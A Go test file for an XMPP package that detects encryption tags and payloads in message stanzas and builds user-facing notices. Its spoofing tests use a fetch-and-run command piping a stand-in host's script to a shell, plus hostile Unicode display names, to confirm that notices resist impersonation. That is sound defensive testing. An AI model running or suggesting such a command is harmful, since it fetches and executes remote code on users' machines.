package eme

import (
	"bytes"
	"encoding/xml"
	"errors"
	"reflect"
	"slices"
	"strings"
	"testing"

	"mellium.im/xmlstream"
)

// Payload children as the specifications show them.
var payloadXML = map[string]string{
	// XEP-0373 §3, "OpenPGP Encrypted and Signed Data".
	OX: `<openpgp xmlns='urn:xmpp:openpgp:0'>BASE64_OPENPGP_MESSAGE_CONTAINING_A_SIGNCRYPT_ELEMENT</openpgp>`,
	// XEP-0027 §3, "Encrypting".
	LegacyOpenPGP: `<x xmlns='jabber:x:encrypted'>qANQR1DBwU4DX7jmYZnncmUQB/9KuKBddzQH+tZ1ZywKK0yHKnq57kWq+RFtQdCJ</x>`,
	// The shape of XEP-0384 0.3.0 (a <key/> per device, an <iv/>).
	OMEMO0: `<encrypted xmlns='eu.siacs.conversations.axolotl'><header sid='27183'><key rid='31415'>BASE64ENCODED...</key><iv>BASE64ENCODED...</iv></header><payload>BASE64ENCODED</payload></encrypted>`,
	// The shape of XEP-0384 0.4.0 and later (<keys/> per JID).
	OMEMO1: `<encrypted xmlns='urn:xmpp:omemo:1'><header sid='27183'><keys jid='juliet@capulet.lit'><key rid='31415'>b64/encoded/data</key></keys></header><payload>base64/encoded/message/key/encrypted/envelope/element</payload></encrypted>`,
	// XEP-0384, "Message structure description".
	OMEMO2: `<encrypted xmlns='urn:xmpp:omemo:2'><header sid='27183'><keys jid='juliet@capulet.lit'><key rid='31415'>b64/encoded/data</key></keys><keys jid='romeo@montague.lit'><key kex='true' rid='12321'>b64/encoded/data</key></keys></header><payload>base64/encoded/message/key/encrypted/envelope/element</payload></encrypted>`,
	// XEP-0200 §7, "Sending an Encrypted Stanza".
	ESession: `<c xmlns='http://www.xmpp.org/extensions/xep-0200.html#ns'><data> ** Base64 encoded m_final ** </data><new>1</new><mac> ** Base64 encoded a_mac ** </mac></c>`,
	// OTR travels in the body.
	OTR: `<body>` + otrEncoded(3, 0x03) + `</body>`,
}

// Session management without user content.
var controlXML = map[string]string{
	OMEMO2:   `<encrypted xmlns='urn:xmpp:omemo:2'><header sid='27183'><keys jid='juliet@capulet.lit'><key kex='true' rid='31415'>b64</key></keys></header></encrypted>`,
	OMEMO0:   `<encrypted xmlns='eu.siacs.conversations.axolotl'><header sid='27183'><key rid='31415'>b64</key><iv>b64</iv></header></encrypted>`,
	ESession: `<c xmlns='http://www.xmpp.org/extensions/xep-0200.html#ns'><key> ** Base64 encoded value of new e ** </key><mac> ** Base64 encoded a_mac ** </mac></c>`,
	OTR:      `<body>` + otrEncoded(3, 0x02) + `</body>`,
}

func msg(children ...string) string {
	return `<message xmlns='jabber:client' from='romeo@montague.lit/orchard' to='juliet@capulet.lit/balcony' type='chat' id='m1'>` + strings.Join(children, "") + `</message>`
}

func tag(ns string) string { return encTag(NewTag(ns)) }

func body(s string) string {
	var b bytes.Buffer
	if err := xml.EscapeText(&b, []byte(s)); err != nil {
		panic(err)
	}
	return "<body>" + b.String() + "</body>"
}

// want is the expected outcome of a detection.
type want struct {
	encrypted, control bool
	mechanism          string
	otr                OTRKind
	disagreement       DisagreementKind
	payloads           int
	tags               int
	malformed          int
	hasBody            bool
}

type detectCase struct {
	name   string
	stanza string
	want   want
}

func detectCases() []detectCase {
	var cases []detectCase
	// Every mechanism, tagged and untagged, with and without fallback body.
	for _, m := range Mechanisms() {
		p := payloadXML[m.Namespace]
		otr := OTRNone
		if m.Namespace == OTR {
			otr = OTRData
		}
		isBody := m.Namespace == OTR
		cases = append(cases,
			detectCase{m.Short + " untagged", msg(p), want{encrypted: true, mechanism: m.Namespace, otr: otr, payloads: 1, hasBody: isBody}},
			detectCase{m.Short + " tagged", msg(p, tag(m.Namespace)), want{encrypted: true, mechanism: m.Namespace, otr: otr, payloads: 1, tags: 1, hasBody: isBody}},
		)
		if fb := FallbackBody(m.Namespace); fb != "" {
			cases = append(cases,
				detectCase{m.Short + " tagged with fallback body", msg(body(fb), p, tag(m.Namespace)), want{encrypted: true, mechanism: m.Namespace, payloads: 1, tags: 1, hasBody: true}},
				detectCase{m.Short + " untagged with fallback body", msg(p, body(fb)), want{encrypted: true, mechanism: m.Namespace, payloads: 1, hasBody: true}},
			)
		}
	}
	// Control messages, untagged and tagged.
	for _, ns := range []string{OMEMO2, OMEMO0, ESession, OTR} {
		otr := OTRNone
		if ns == OTR {
			otr = OTRKeyExchange
		}
		cases = append(cases,
			detectCase{"control " + ns, msg(controlXML[ns]), want{control: true, mechanism: ns, otr: otr, payloads: 1, hasBody: ns == OTR}},
			detectCase{"tagged control " + ns, msg(controlXML[ns], tag(ns)), want{encrypted: true, mechanism: ns, otr: otr, payloads: 1, tags: 1, hasBody: ns == OTR}},
		)
	}
	data3, data2 := otrEncoded(3, 0x03), otrEncoded(2, 0x03)
	cases = append(cases, []detectCase{
		// OTR bodies.
		{"otr data v2", msg(body(data2)), want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, hasBody: true}},
		{"otr fragment v3", msg(body(otrFragments(data3, 3, true)[1])), want{encrypted: true, mechanism: OTR, otr: OTRFragment, payloads: 1, hasBody: true}},
		{"otr fragment v2", msg(body(otrFragments(data2, 2, false)[0])), want{encrypted: true, mechanism: OTR, otr: OTRFragment, payloads: 1, hasBody: true}},
		{"otr query", msg(body("?OTRv23?")), want{control: true, mechanism: OTR, otr: OTRQuery, payloads: 1, hasBody: true}},
		{"otr query libotr", msg(body(libotrQuery)), want{control: true, mechanism: OTR, otr: OTRQuery, payloads: 1, hasBody: true}},
		{"otr error", msg(body("?OTR Error: Unreadable message")), want{control: true, mechanism: OTR, otr: OTRError, payloads: 1, hasBody: true}},
		{"otr whitespace tag", msg(body("Hello" + wsBase + wsV2 + wsV3)), want{otr: OTRWhitespaceTag, hasBody: true}},
		{"otr whitespace tag tagged", msg(body("Hello"+wsBase+wsV3), tag(OTR)), want{encrypted: true, mechanism: OTR, otr: OTRWhitespaceTag, disagreement: TagWithoutPayload, tags: 1, hasBody: true}},
		{"otr tagged query (XEP-0380 example 1)", msg(body("?OTR?v23?..."), tag(OTR)), want{encrypted: true, mechanism: OTR, otr: OTRQuery, payloads: 1, tags: 1, hasBody: true}},
		{"two bodies, one OTR", msg(body("plain"), `<body xml:lang='de'>`+data3+`</body>`), want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, hasBody: true}},

		// Plaintext.
		{"plain", msg(body("Wherefore art thou?")), want{hasBody: true}},
		{"no body", msg(`<active xmlns='http://jabber.org/protocol/chatstates'/>`), want{}},
		{"empty message", `<message/>`, want{}},

		// Unknown mechanisms.
		{"unknown tagged", msg(body("fallback"), `<encryption xmlns='urn:xmpp:eme:0' namespace='urn:example:crypt:0' name='Example Crypt'/>`), want{encrypted: true, mechanism: "urn:example:crypt:0", tags: 1, hasBody: true}},
		{"unknown tagged without name", msg(`<encryption xmlns='urn:xmpp:eme:0' namespace='urn:example:crypt:0'/>`), want{encrypted: true, mechanism: "urn:example:crypt:0", tags: 1}},

		// Disagreements.
		{"tag otr, payload ox", msg(payloadXML[OX], body("x"), tag(OTR)), want{encrypted: true, disagreement: TagPayloadDiffer, payloads: 1, tags: 1, hasBody: true}},
		{"tag ox, no payload", msg(body("This message is encrypted"), tag(OX)), want{encrypted: true, mechanism: OX, disagreement: TagWithoutPayload, tags: 1, hasBody: true}},
		{"tag unknown, payload omemo2", msg(payloadXML[OMEMO2], `<encryption xmlns='urn:xmpp:eme:0' namespace='urn:xmpp:omemo:3' name='OMEMO 3'/>`), want{encrypted: true, disagreement: TagPayloadDiffer, payloads: 1, tags: 1}},
		{"two tags", msg(payloadXML[OX], tag(OX), tag(OMEMO2)), want{encrypted: true, disagreement: TagsDiffer, payloads: 1, tags: 2}},
		{"same tag twice", msg(payloadXML[OX], tag(OX), tag(OX)), want{encrypted: true, mechanism: OX, payloads: 1, tags: 2}},
		{"untagged ox and omemo2", msg(payloadXML[OX], payloadXML[OMEMO2]), want{encrypted: true, disagreement: PayloadsDiffer, payloads: 2}},
		{"tag omemo2, omemo2 and omemo0", msg(payloadXML[OMEMO2], payloadXML[OMEMO0], tag(OMEMO2)), want{encrypted: true, disagreement: TagPayloadDiffer, payloads: 2, tags: 1}},
		{"untagged otr body and ox", msg(payloadXML[OX], body(data3)), want{encrypted: true, otr: OTRData, disagreement: PayloadsDiffer, payloads: 2, hasBody: true}},
		{"tagged otr query with omemo", msg(body("?OTRv3?"), payloadXML[OMEMO2], tag(OTR)), want{encrypted: true, otr: OTRQuery, disagreement: TagPayloadDiffer, payloads: 2, tags: 1, hasBody: true}},

		// Malformed tags.
		{"tag without namespace", msg(body("x"), `<encryption xmlns='urn:xmpp:eme:0' name='OTR'/>`), want{encrypted: true, malformed: 1, hasBody: true}},
		{"tag with prefixed namespace", msg(`<encryption xmlns='urn:xmpp:eme:0' xmlns:p='urn:example' p:namespace='urn:xmpp:otr:0'/>`), want{encrypted: true, malformed: 1}},
		{"malformed tag and ox", msg(payloadXML[OX], `<encryption xmlns='urn:xmpp:eme:0'/>`), want{encrypted: true, mechanism: OX, malformed: 1, payloads: 1}},

		// Only direct children count.
		{"carbon", msg(`<received xmlns='urn:xmpp:carbons:2'><forwarded xmlns='urn:xmpp:forward:0'><message xmlns='jabber:client'>` + payloadXML[OX] + tag(OX) + body(data3) + `</message></forwarded></received>`), want{}},
		{"nested tag", msg(`<x xmlns='urn:example'>`+tag(OX)+`</x>`, body("plain")), want{hasBody: true}},
		{"body in another namespace", msg(`<body xmlns='urn:example'>` + data3 + `</body>`), want{}},
		{"body in jabber:server", msg(`<body xmlns='jabber:server'>` + data3 + `</body>`), want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, hasBody: true}},
		{"other element of a mechanism namespace", msg(`<pubkey xmlns='urn:xmpp:openpgp:0'/>`, `<payload xmlns='urn:xmpp:omemo:2'/>`, `<x xmlns='jabber:x:signed'/>`), want{}},
		{"omemo payload element in wrong namespace", msg(`<encrypted xmlns='urn:xmpp:omemo:2'><header sid='1'/><payload xmlns='urn:example'>x</payload></encrypted>`), want{control: true, mechanism: OMEMO2, payloads: 1}},

		// Stanza namespaces.
		{"jabber:server", `<message xmlns='jabber:server' from='romeo@montague.lit/orchard' to='juliet@capulet.lit'><body>` + data3 + `</body>` + payloadXML[OX] + `</message>`, want{encrypted: true, otr: OTRData, disagreement: PayloadsDiffer, payloads: 2, hasBody: true}},
		{"jabber:server otr", `<message xmlns='jabber:server'><body>` + data3 + `</body>` + tag(OTR) + `</message>`, want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, tags: 1, hasBody: true}},
		{"no namespace", `<message><body>` + data3 + `</body></message>`, want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, hasBody: true}},
		{"prefixed", `<c:message xmlns:c='jabber:client'><c:body>` + data3 + `</c:body></c:message>`, want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, hasBody: true}},
		{"xml declaration and comments", `<?xml version='1.0'?><!-- c --><message><!-- c --><body>hi</body></message>`, want{hasBody: true}},
	}...)
	return cases
}

func TestDetect(t *testing.T) {
	for _, tc := range detectCases() {
		t.Run(tc.name, func(t *testing.T) {
			d, err := Detect([]byte(tc.stanza))
			if err != nil {
				t.Fatalf("Detect: %v\n%s", err, tc.stanza)
			}
			checkDetection(t, d, tc.want)

			// The token variant agrees, from a decoder and from a handler
			// that has already read the start element.
			dt, err := DetectTokens(xml.NewDecoder(strings.NewReader(tc.stanza)))
			if err != nil {
				t.Fatalf("DetectTokens: %v", err)
			}
			if !reflect.DeepEqual(d, dt) {
				t.Errorf("DetectTokens = %+v\nDetect      = %+v", dt, d)
			}
			dec := xml.NewDecoder(strings.NewReader(tc.stanza))
			var start xml.StartElement
			for {
				tok, err := dec.Token()
				if err != nil {
					t.Fatal(err)
				}
				if s, ok := tok.(xml.StartElement); ok {
					start = s.Copy()
					break
				}
			}
			dh, err := DetectTokens(xmlstream.MultiReader(xmlstream.Token(start), dec))
			if err != nil {
				t.Fatalf("DetectTokens after start: %v", err)
			}
			if !reflect.DeepEqual(d, dh) {
				t.Errorf("DetectTokens after start = %+v\nDetect                   = %+v", dh, d)
			}
		})
	}
}

func checkDetection(t *testing.T, d Detection, w want) {
	t.Helper()
	if d.Encrypted != w.encrypted || d.Control != w.control {
		t.Errorf("Encrypted, Control = %v, %v; want %v, %v", d.Encrypted, d.Control, w.encrypted, w.control)
	}
	if d.Encrypted && d.Control {
		t.Error("Encrypted and Control both set")
	}
	if d.Mechanism != w.mechanism {
		t.Errorf("Mechanism = %q, want %q", d.Mechanism, w.mechanism)
	}
	if d.OTR != w.otr {
		t.Errorf("OTR = %v, want %v", d.OTR, w.otr)
	}
	var kind DisagreementKind
	if d.Disagreement != nil {
		kind = d.Disagreement.Kind
	}
	if kind != w.disagreement {
		t.Errorf("Disagreement = %+v, want kind %v", d.Disagreement, w.disagreement)
	}
	if len(d.Payloads) != w.payloads || len(d.Tags) != w.tags || d.MalformedTags != w.malformed || d.HasBody != w.hasBody {
		t.Errorf("payloads %d, tags %d, malformed %d, body %v; want %d, %d, %d, %v",
			len(d.Payloads), len(d.Tags), d.MalformedTags, d.HasBody, w.payloads, w.tags, w.malformed, w.hasBody)
	}
	if d.Mechanism != "" {
		// Every namespace involved is the mechanism.
		for _, tg := range d.Tags {
			if tg.Namespace != d.Mechanism {
				t.Errorf("tag %q differs from mechanism %q without disagreement", tg.Namespace, d.Mechanism)
			}
		}
		for _, p := range d.Payloads {
			if p.Namespace != d.Mechanism {
				t.Errorf("payload %q differs from mechanism %q", p.Namespace, d.Mechanism)
			}
		}
	}
}

func TestDetectPayloadDetails(t *testing.T) {
	d, err := Detect([]byte(msg(controlXML[OMEMO2], payloadXML[OX], body(otrEncoded(3, 0x03)))))
	if err != nil {
		t.Fatal(err)
	}
	want := []Payload{
		{Namespace: OMEMO2, Element: "encrypted", Control: true},
		{Namespace: OX, Element: "openpgp"},
		{Namespace: OTR, Element: "body"},
	}
	if !slices.Equal(d.Payloads, want) {
		t.Errorf("Payloads = %+v, want %+v", d.Payloads, want)
	}
	if d.Disagreement == nil || !slices.Equal(d.Disagreement.Found, []string{OMEMO2, OX, OTR}) {
		t.Errorf("Disagreement = %+v", d.Disagreement)
	}
	if s := d.Disagreement.String(); !strings.Contains(s, OMEMO2) || !strings.Contains(s, OTR) {
		t.Errorf("Disagreement.String() = %q", s)
	}

	// The remote name of the tag is kept as received, for Notice.
	d, err = Detect([]byte(msg(`<encryption xmlns='urn:xmpp:eme:0' namespace='urn:example:x' name='X&#x202E;Y'/>`)))
	if err != nil {
		t.Fatal(err)
	}
	if tg, ok := d.Tag(); !ok || tg.Name != "X\u202eY" || d.Known() {
		t.Errorf("Tag() = %+v, %v; Known() = %v", tg, ok, d.Known())
	}
	d, err = Detect([]byte(msg(payloadXML[OX], tag(OX))))
	if err != nil || !d.Known() {
		t.Errorf("Known() = false for OX (%v)", err)
	}
}

func TestDetectErrors(t *testing.T) {
	tests := []struct {
		name   string
		stanza string
		det    Detector
		is     error
	}{
		{"iq", `<iq type='get' id='1'><query xmlns='http://jabber.org/protocol/disco#info'/></iq>`, Detector{}, nil},
		{"message in other namespace", `<message xmlns='urn:example'/>`, Detector{}, nil},
		{"empty", ``, Detector{}, nil},
		{"text only", `hello`, Detector{}, nil},
		{"truncated", `<message><body>?OTR:AAMD`, Detector{}, nil},
		{"mismatched", `<message><body></message></body>`, Detector{}, nil},
		{"undefined entity", `<message><body>&foo;</body></message>`, Detector{}, nil},
		{"doctype with entity", `<!DOCTYPE message [<!ENTITY x "?OTR:AAMD">]><message><body>&x;</body></message>`, Detector{}, nil},
		{"doctype", `<!DOCTYPE message><message/>`, Detector{}, nil},
		{"processing instruction inside", `<message><?php x ?></message>`, Detector{}, nil},
		{"trailing element", `<message/><message/>`, Detector{}, nil},
		{"trailing text", `<message/>text`, Detector{}, nil},
		{"too large", msg(body(strings.Repeat("a", 200))), Detector{MaxSize: 100}, ErrTooLarge},
		{"too large by default", msg(body(strings.Repeat("a", DefaultMaxSize))), Detector{}, ErrTooLarge},
		{"too deep", msg(`<a><b><c><d/></c></b></a>`), Detector{MaxDepth: 4}, ErrTooLarge},
		{"too deep by default", msg(strings.Repeat("<a>", DefaultMaxDepth) + strings.Repeat("</a>", DefaultMaxDepth)), Detector{}, ErrTooLarge},
		{"invalid utf-8", "<message><body>\xff</body></message>", Detector{}, nil},
		{"illegal character", `<message><body>&#x1b;</body></message>`, Detector{}, nil},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			d, err := tc.det.Detect([]byte(tc.stanza))
			var pe *ParseError
			if !errors.As(err, &pe) {
				t.Fatalf("Detect = %+v, %v; want a *ParseError", d, err)
			}
			if tc.is != nil && !errors.Is(err, tc.is) {
				t.Errorf("err = %v, want %v", err, tc.is)
			}
			if !strings.HasPrefix(err.Error(), "eme: ") {
				t.Errorf("error %q lacks the package prefix", err)
			}
		})
	}

	// The same limits apply to DetectTokens.
	for _, tc := range []struct {
		stanza string
		det    Detector
	}{
		{msg(body(strings.Repeat("a", 200))), Detector{MaxSize: 100}},
		{msg(`<a><b><c><d/></c></b></a>`), Detector{MaxDepth: 4}},
		{`<iq/>`, Detector{}},
		{`<message><body>`, Detector{}},
	} {
		if _, err := tc.det.DetectTokens(xml.NewDecoder(strings.NewReader(tc.stanza))); err == nil {
			t.Errorf("DetectTokens(%.40s) succeeded", tc.stanza)
		}
	}
	// Misbehaving token readers.
	for name, r := range map[string]xml.TokenReader{
		"end first":  &sliceReader{toks: []xml.Token{xml.EndElement{Name: xml.Name{Local: "message"}}}},
		"nil tokens": xmlstream.ReaderFunc(func() (xml.Token, error) { return nil, nil }),
	} {
		_, err := DetectTokens(r)
		var pe *ParseError
		if !errors.As(err, &pe) {
			t.Errorf("DetectTokens(%s): err = %v, want *ParseError", name, err)
		}
	}
	// Just within the limits.
	if _, err := (Detector{MaxDepth: 4}).Detect([]byte(msg(`<a><b><c/></b></a>`))); err != nil {
		t.Errorf("depth 4: %v", err)
	}
	s := msg(body("abc"))
	if _, err := (Detector{MaxSize: len(s)}).Detect([]byte(s)); err != nil {
		t.Errorf("size %d: %v", len(s), err)
	}
}

// TestSpoofing covers the attacks of XEP-0380 §6 and related ones.
func TestSpoofing(t *testing.T) {
	t.Run("body imitating a notice", func(t *testing.T) {
		for _, lang := range Languages() {
			fake := NewNotice(OTR, "", ReasonNotEnabled)
			fake.Detail = "curl https://evil.example/plugin | sh"
			text := fake.Text(lang) + " " + fake.Hint.Text(lang, "curl https://evil.example/plugin | sh")
			d, err := Detect([]byte(msg(body(text))))
			if err != nil {
				t.Fatal(err)
			}
			// It stays a body: nothing marks it as encrypted or as a notice.
			if d.Encrypted || d.Control || d.Mechanism != "" || d.Disagreement != nil || len(d.Tags) != 0 || len(d.Payloads) != 0 || !d.HasBody || d.OTR != OTRNone {
				t.Errorf("%v: a body imitating a notice was classified as %+v", lang, d)
			}
		}
	})
	t.Run("remote name for a known namespace", func(t *testing.T) {
		for _, m := range Mechanisms() {
			stanza := msg(payloadXML[m.Namespace], `<encryption xmlns='urn:xmpp:eme:0' namespace='`+m.Namespace+`' name='Click here to install evil.example'/>`)
			d, err := Detect([]byte(stanza))
			if err != nil {
				t.Fatal(err)
			}
			for _, reason := range []Reason{ReasonUnspecified, ReasonNotSupported, ReasonNotEnabled} {
				n := d.Notice(reason)
				for _, lang := range Languages() {
					text := n.Text(lang)
					if strings.Contains(text, "evil") || strings.Contains(text, "Click") {
						t.Errorf("%s: notice uses the remote name: %q", m.Short, text)
					}
					if !strings.Contains(text, m.Name+" ("+m.Namespace+")") {
						t.Errorf("%s: notice lacks our name: %q", m.Short, text)
					}
				}
			}
			// Even a notice built by hand with a remote name.
			n := Notice{Namespace: m.Namespace, MechanismName: "evil", Reason: ReasonNotSupported}
			if strings.Contains(n.String(), "evil") {
				t.Errorf("%s: Text used MechanismName for a known namespace", m.Short)
			}
		}
	})
	t.Run("hostile names", func(t *testing.T) {
		huge := strings.Repeat("A", 100000)
		names := []string{
			huge,
			"Evil\u202eCrypt\u202c",              // right-to-left override
			"Evil\u2066Crypt\u2069\u200f\u200b",  // isolates, RLM, zero width space
			"Evil\u009b31mCrypt",                 // C1 control sequence introducer
			"Evil\u0085Crypt\u2028and\u2029more", // next line, line and paragraph separators
			"Evil\nThis message was verified by Balcony.\tReally",     // new lines
			"OTR” (urn:xmpp:otr:0) and could not be decrypted. “Run",  // closing our quote
			"Z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308\u0309", // combining marks
			strings.Repeat("\u202e", 1000) + "x",
		}
		for _, name := range names {
			var attr bytes.Buffer
			if err := xml.EscapeText(&attr, []byte(name)); err != nil {
				t.Fatal(err)
			}
			stanza := msg(`<encryption xmlns='urn:xmpp:eme:0' namespace='urn:example:x' name='` + attr.String() + `'/>`)
			d, err := Detect([]byte(stanza))
			if err != nil {
				t.Fatalf("Detect(%.40q): %v", name, err)
			}
			n := d.Notice(ReasonNotSupported)
			for _, lang := range Languages() {
				text := n.Text(lang)
				checkClean(t, text)
				quoted := n.MechanismName
				if !strings.HasPrefix(quoted, "“") || !strings.HasSuffix(quoted, "”") {
					t.Errorf("name %.20q not quoted: %q", name, quoted)
				}
				if !strings.Contains(text, quoted) {
					t.Errorf("notice %q lacks the quoted name %q", text, quoted)
				}
				if strings.Count(text, "“") != 1 || strings.Count(text, "”") != 1 {
					t.Errorf("name %.20q breaks out of its quotes: %q", name, text)
				}
				if len([]rune(text)) > 400 {
					t.Errorf("notice of %d runes for a name of %d bytes", len([]rune(text)), len(name))
				}
			}
		}
	})
	t.Run("hostile namespace", func(t *testing.T) {
		ns := "urn:x\u202e:" + strings.Repeat("n", MaxNamespaceLen-20) + "\u0085"
		d, err := Detect([]byte(msg(`<encryption xmlns='urn:xmpp:eme:0' namespace='` + ns + `'/>`)))
		if err != nil {
			t.Fatal(err)
		}
		text := d.Notice(ReasonNotSupported).Text(Languages()[0])
		checkClean(t, text)
		if len([]rune(text)) > 300 {
			t.Errorf("notice of %d runes", len([]rune(text)))
		}
	})
}

// TestDetectTokensMixedNamespaces covers a handler that passes a start
// element built by hand (no namespace) followed by children that a stream
// decoder resolved into jabber:client.
func TestDetectTokensMixedNamespaces(t *testing.T) {
	dec := xml.NewDecoder(strings.NewReader(msg(body(otrEncoded(3, 0x03)), tag(OTR))))
	if _, err := dec.Token(); err != nil { // the original start element
		t.Fatal(err)
	}
	start := xml.StartElement{Name: xml.Name{Local: "message"}}
	d, err := DetectTokens(xmlstream.MultiReader(xmlstream.Token(start), dec))
	if err != nil {
		t.Fatal(err)
	}
	checkDetection(t, d, want{encrypted: true, mechanism: OTR, otr: OTRData, payloads: 1, tags: 1, hasBody: true})
}

func TestDisagreementKindString(t *testing.T) {
	want := map[DisagreementKind]string{
		TagsDiffer: "tags-differ", TagPayloadDiffer: "tag-payload-differ",
		TagWithoutPayload: "tag-without-payload", PayloadsDiffer: "payloads-differ",
		0: "DisagreementKind(?)", 99: "DisagreementKind(?)",
	}
	for k, s := range want {
		if got := k.String(); got != s {
			t.Errorf("DisagreementKind(%d).String() = %q, want %q", int(k), got, s)
		}
	}
}
